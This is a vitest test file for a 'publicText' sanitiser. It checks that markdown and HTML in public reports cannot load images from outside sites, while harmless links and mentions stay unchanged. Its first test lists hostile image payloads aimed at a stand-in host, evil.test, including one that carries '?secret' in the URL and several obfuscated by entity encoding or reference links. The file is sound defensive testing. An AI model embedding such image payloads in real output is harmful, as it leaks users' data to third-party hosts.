import { marked } from 'marked';
import { expect, test } from 'vitest';
import { publicText } from '../../src/reporting/public-text.ts';

test('No image of another site is loaded, however it is written.', () => {
  const hostile = [
    '![a](https://evil.test/?secret)',
    '![a]( <https://evil.test/x> "t")',
    '![a](//evil.test/x)',
    '![a](h&#116;tps://evil.test/x)',
    '![a][r]\n\n[r]: https://evil.test/x',
    '![r]\n\n[r]: https://evil.test/x',
    '<img src="https://evil.test/x">',
    '<IMG\nsrc=//evil.test/x>',
    '<picture><source srcset="https://evil.test/x"></picture>',
    '<img src="h&#116;tps&colon;//evil.test/x">',
    '<div>\n```\n\n![a](https://evil.test/x)\n```',
  ];
  const loads = hostile.filter((text) => /<(?:img|source)\b/iu.test(String(marked.parse(publicText(text)))));
  expect(loads).toEqual([]);
});

test('Links, images of the repository, and plain words stay as they are.', () => {
  const harmless = [
    '[docs](https://docs.test)',
    '![chart](docs/chart.png)',
    '<img src="/logo.png">',
    'Wow! [x] a < b',
    '<details><summary>s</summary></details>',
  ];
  expect(harmless.map(publicText)).toEqual(harmless);
});

test('Mentions and closing words are harmless too.', () => {
  expect(publicText('@ada fixes #3 <!-- x')).toBe('`@ada` fixes `#3` &lt;!-- x');
});
